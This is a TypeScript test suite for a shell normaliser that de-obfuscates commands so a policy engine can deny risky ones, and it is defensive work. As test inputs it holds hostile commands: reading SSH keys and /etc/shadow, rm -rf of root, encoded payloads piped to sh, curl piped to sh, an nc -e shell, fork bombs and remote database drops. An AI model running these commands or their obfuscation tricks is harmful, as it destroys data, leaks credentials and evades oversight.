import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'smol-toml';
import { describe, expect, it } from 'vitest';
import { shellLists } from '../../../core/scoring/shell/lists.ts';
import { beyondRaw, normaliseShell } from '../../../core/scoring/shell/normalise.ts';
import { parseShell } from '../../../core/scoring/shell/parser.ts';
import { mayReveal } from '../../../core/scoring/shell/prescreen.ts';
import { FILTER_DIR, sharedEngine } from './helpers.ts';

const lists = shellLists(parse(readFileSync(join(FILTER_DIR, 'shell.toml'), 'utf8')));
const sh = (script: string, env?: Record<string, string>, cwd?: string) => normaliseShell({ command: 'bash', args: ['-c', script], env, cwd }, lists).split('\n');
const argv = (command: string, ...args: string[]) => normaliseShell({ command, args }, lists).split('\n');

describe('the shell normaliser', () => {
  it('removes quotes and escapes inside words and decodes ANSI-C strings', () => {
    expect(sh(`c''at ~/.s""sh/id_rsa`)).toContain('cat ~/.ssh/id_rsa');
    expect(sh('r\\m -r\\f /tmp/x')).toContain('rm -rf /tmp/x');
    expect(sh("$'\\x72\\x6d' -rf /srv/data")).toContain('rm -rf /srv/data');
    expect(sh("$'\\162\\155' -f a.txt")).toContain('rm -f a.txt');
    expect(sh(`c''at x`)).toContain('svc:fact obfuscated-command cat');
    expect(sh('"$HOME/bin/tool" --help').some((l) => l.startsWith('svc:fact obfuscated'))).toBe(false);
  });

  it('substitutes simple assignments, the call environment, -c positionals and IFS splitting', () => {
    expect(sh('a=cu; b=rl; $a$b -s example.org')).toContain('curl -s example.org');
    expect(sh('cat "$P"', { P: '/etc/shadow' })).toContain('cat /etc/shadow');
    expect(sh(`bash -c 'eval "$0"' 'rm -rf /opt/x'`)).toContain('rm -rf /opt/x');
    expect(sh('IFS=,; c="cat,/etc/hosts"; $c')).toContain('cat /etc/hosts');
    expect(sh('d=${X:-/srv}; ls $d')).toContain('ls /srv');
  });

  it('replaces command substitutions by their output when the text decides it', () => {
    expect(sh('$(printf "\\x63\\x61\\x74") notes.txt')).toContain('cat notes.txt');
    expect(sh('`echo ls` -la')).toContain('ls -la');
    expect(sh('$(rev <<< "tac") f')).toContain('cat f');
    expect(sh('echo "v: $(git describe)"').some((l) => l === 'git describe')).toBe(true);
  });

  it('decodes base64, hex, rev and tr chains feeding a shell or eval', () => {
    const b64 = Buffer.from('touch /tmp/marker').toString('base64');
    expect(sh(`echo ${b64} | base64 -d | sh`)).toEqual(expect.arrayContaining(['svc:fact decoded-payload-run', 'touch /tmp/marker']));
    const hex = Buffer.from('id -u').toString('hex');
    expect(sh(`echo ${hex} | xxd -r -p | bash`)).toContain('id -u');
    expect(sh(`eval "$(echo 'u- di' | rev)"`)).toContain('id -u');
    expect(sh(`echo 'vq -h' | tr 'a-z' 'n-za-m' | sh`)).toContain('id -u');
    expect(sh(`bash -c "$(base64 -d <<< ${b64})"`)).toContain('touch /tmp/marker');
    expect(sh('echo aGVsbG8= | base64 -d').some((l) => l.includes('decoded-payload'))).toBe(false);
  });

  it('resolves globs against the sensitive-path and binary lists', () => {
    expect(sh('/???/c?t /e?c/sha*')).toContain('cat /etc/shadow');
    expect(sh('head /etc/[s]hadow')).toContain('head /etc/shadow');
    expect(sh('tar czf /tmp/k.tgz ~/.ss?')).toContain('tar czf /tmp/k.tgz ~/.ssh');
    expect(sh('rm -rf ./build/*')).toContain('rm -rf ./build/*');
    expect(sh('rm -rf ~/*')).toContain('rm -rf ~/*');
    expect(sh('[ -f x ] && echo y').some((l) => l.includes('glob-command'))).toBe(false);
  });

  it('peels wrappers to the command they run', () => {
    expect(argv('env', '-i', 'PATH=/usr/bin', 'rm', '-rf', '/srv')).toContain('rm -rf /srv');
    expect(sh('sudo -u root nice -n 5 timeout 10 nohup cat /etc/shadow')).toContain('cat /etc/shadow');
    expect(sh('echo /etc/shadow | xargs cat')).toContain('echo /etc/shadow | cat /etc/shadow');
    expect(sh("find ~/.ssh -name 'id_*' -exec cat {} \\;")).toContain('cat ~/.ssh/id_*');
    expect(argv('busybox', 'nc', '10.0.0.1', '9', '-e', 'sh')).toContain('nc 10.0.0.1 9 -e sh');
    expect(sh(`watch -n 5 'curl -s x | sh'`)).toContain('curl -s x | sh');
    expect(sh('sudo -s <<EOF\nid -u\nEOF')).toContain('id -u');
    expect(sh('command -v docker')).toContain('command -v docker');
  });

  it('reads -c strings, eval, heredocs and herestrings given to shells', () => {
    expect(sh(`sh -c "sh -c 'id -u'"`)).toContain('id -u');
    expect(sh("eval 'id -u'")).toContain('id -u');
    expect(sh("bash <<'X'\nid -u\nX")).toContain('id -u');
    expect(sh("bash <<< 'id -u'")).toContain('id -u');
  });

  it('prescreens a quoted command word as revealing: "rm" -rf ~ is rm -rf ~ to the rules', () => {
    for (const line of ['"rm" -rf ~/', "'rm' -rf /", 'cd /tmp && "rm" -rf ~', 'echo ok; "/bin/rm" -rf /', 'true | "sh"', '( "shred" -u key )']) {
      expect(mayReveal({ command: line, args: [] }), line).toBe(true);
    }
    expect(mayReveal({ command: 'git status --short', args: [] })).toBe(false);
  });

  it('denies a recursive delete of home or root whose command word is quoted', async () => {
    const engine = await sharedEngine();
    for (const line of ['"rm" -rf ~/', "'rm' -rf /", 'echo hi; "rm" -rf ~']) {
      expect(engine.evaluate({ type: 'ShellExec', command: line, args: [] }, { record: false }).result.action, line).toMatch(/^deny/);
    }
  });

  it('prescreens a shell or interpreter by the name after the last slash of its path', () => {
    expect(mayReveal({ command: '/opt/tools/bin/bash', args: ['-c', 'ls -la'] })).toBe(false);
    expect(mayReveal({ command: '/opt/tools/bin/bash', args: ['-c', 'sudo ls'] })).toBe(true);
    expect(mayReveal({ command: '/usr/local/bin/python3', args: ['-c', 'print(1)'] })).toBe(true);
    expect(mayReveal({ command: '/usr/local/bin/python3', args: ['build.py'] })).toBe(false);
  });

  it('hands the rules no line the raw text or another command line already says whole', () => {
    // Found verbatim in the raw text, repeated, or shown whole as $(line) in the line that uses it.
    expect(beyondRaw(['ls -la', 'curl -s a.example', 'x=$(curl -s a.example)', 'curl -s a.example'], 'ls -la; x=$(curl -s "a.example")'))
      .toBe('x=$(curl -s a.example)');
    // After eval, or inside an interpreter's code, a command keeps its own line; fact lines always stay.
    expect(beyondRaw(['curl -s u | sh', 'eval curl -s u | sh', 'svc:fact decoded-payload-run', 'svc:fact decoded-payload-run'], 'eval "$(echo Y3VybA== | base64 -d)"'))
      .toBe('curl -s u | sh\neval curl -s u | sh\nsvc:fact decoded-payload-run\nsvc:fact decoded-payload-run');
    // Said in the raw text only as a wrapper's operand, a command keeps its line: rules read a command at its start.
    expect(beyondRaw(['shutdown -h now'], 'ssh -p 2202 root@10.20.0.11 shutdown -h now')).toBe('shutdown -h now');
    expect(beyondRaw(['./reset.sh --force'], 'sudo -E env DATABASE_URL=x ./reset.sh --force')).toBe('./reset.sh --force');
    // At a command's start (after a separator, a keyword, sh -c or the command's own assignments) it says nothing new.
    expect(beyondRaw(['rm -rf x', 'python manage.py flush'], 'cd /a && rm -rf x; X=config.test python manage.py flush')).toBe('');
    expect(beyondRaw(['reboot'], 'if true; then reboot; fi')).toBe('');
  });

  it('writes a nested command substitution as the command it is, not as a list', () => {
    // `$(a $(b))` reads `$(a $(b))`: joined as `$(b ; a …)` it cut the outer command at the `;`.
    const lines = sh('echo main | xargs -I@ git push --force origin $(git commit-tree $(git hash-object -t tree /dev/null) -m init):refs/heads/@');
    expect(lines).toContain('echo main | git push --force origin $(git commit-tree $(git hash-object -t tree /dev/null) -m init):refs/heads/main');
    expect(lines.some((l) => l.includes('/dev/null ;'))).toBe(false);
  });

  it("writes kubectl's connection options after the verb", () => {
    expect(sh('kubectl --server=https://10.100.0.1:6443 --insecure-skip-tls-verify --token=$T delete deploy --all -A'))
      .toContain('kubectl delete deploy --all -A --server=https://10.100.0.1:6443 --insecure-skip-tls-verify --token=$T');
    expect(argv('oc', '--server', 'https://api.c1:6443', '--context', 'prod', 'delete', 'project', 'web')).toContain('oc --context prod delete project web --server https://api.c1:6443');
    expect(sh('kubectl get pods -A').some((l) => l.startsWith('kubectl get pods -A '))).toBe(false);
  });

  it('lifts interpreter one-liners and the shell strings they run', () => {
    const py = argv('python3', '-c', "import os;os.system('r'+'m -rf /srv')");
    expect(py).toContain("svc:code python import os;os.system('rm -rf /srv')");
    expect(py).toContain('rm -rf /srv');
    expect(argv('node', '-e', "require('fs').readFileSync(process.env.HOME+'/.npmrc')")[0]).toBe("svc:code node require('fs').readFileSync('~/.npmrc')");
    expect(argv('perl', '-MIO::Socket', '-e', '1')[0]).toBe('svc:code perl use IO::Socket; ; 1');
    // Code the raw line already shows unchanged gets no second copy.
    expect(argv('awk', '-F,', '{print $1}', 'a.csv')).toEqual(['awk … a.csv']);
    // The flags and code before the words after it read as '…', wherever the code sits.
    expect(argv('perl', '-i', '-pe', 's/a/b/', 'f.txt')).toEqual(['perl … f.txt']);
    expect(argv('powershell.exe', '-ep', 'bypass', '-c', 'Get-ChildItem', '-Recurse')).toEqual(['powershell.exe …']);
    const b64 = Buffer.from("import os;os.system('id -u')").toString('base64');
    expect(argv('python3', '-c', `exec(__import__('base64').b64decode('${b64}'))`)).toContain('id -u');
  });

  it('reports database statements with where they go', () => {
    expect(argv('psql', '-h', 'db.example.com', '-c', 'DROP TABLE t')).toContain('svc:sql psql remote DROP TABLE t');
    expect(argv('psql', '-h', 'localhost', '-c', 'DROP TABLE t')).toContain('svc:sql psql local DROP TABLE t');
    expect(sh(`psql "$DATABASE_URL" -c 'TRUNCATE t'`)).toContain('svc:sql psql unknown TRUNCATE t');
    expect(sh(`echo 'DROP DATABASE p;' | mysql -h 203.0.113.1`)).toContain('svc:sql mysql remote DROP DATABASE p;');
    expect(sh(`MYSQL_HOST=db.example.io mysql app -e 'delete from t'`)).toContain('svc:sql mysql remote delete from t');
    expect(argv('sqlite3', 'data/dev.db', 'DELETE FROM t')).toContain('svc:sql sqlite3 local DELETE FROM t');
    expect(argv('mongosh', 'mongodb+srv://c.example.net/app', '--eval', 'db.dropDatabase()')).toContain('svc:sql mongosh remote db.dropDatabase()');
  });

  it('recognises fork bombs under any name and unbounded background loops', () => {
    expect(sh(':(){ :|:& };:')).toContain('svc:fact fork-bomb :');
    expect(sh('bomb() {\n bomb &\n bomb\n}\nbomb')).toContain('svc:fact fork-bomb bomb');
    expect(sh('while :; do $0 & done')).toContain('svc:fact unbounded-background-loop');
    expect(sh('f() { echo "$1"; }; f x').some((l) => l.includes('fork-bomb'))).toBe(false);
    expect(sh('while true; do npm test; sleep 5; done').some((l) => l.includes('unbounded'))).toBe(false);
  });

  it('resolves dot-file names relative to the home directory', () => {
    expect(sh('cd ~ && tar cf /tmp/a.tar .ssh .aws')).toContain('cd ~ && tar cf /tmp/a.tar ~/.ssh ~/.aws');
    expect(sh('tar -C ~ -czf - .kube')).toContain('tar -C ~ -czf - ~/.kube');
    expect(argv('tar', 'czf', 'x.tgz', '.config')[0]).toBe('tar czf x.tgz .config');
  });

  it('reports text it cannot parse and keeps the commands it could read', () => {
    expect(sh('echo "unterminated; rm -rf /srv')).toContain('svc:fact unparseable unterminated double quote');
    expect(sh('cat <<EOF\nno end')).toContain('svc:fact unparseable unterminated here-document');
    expect(parseShell('a | | b').problems.length).toBeGreaterThan(0);
    expect(sh('ls ) ; id -u')).toContain('id -u');
  });
});
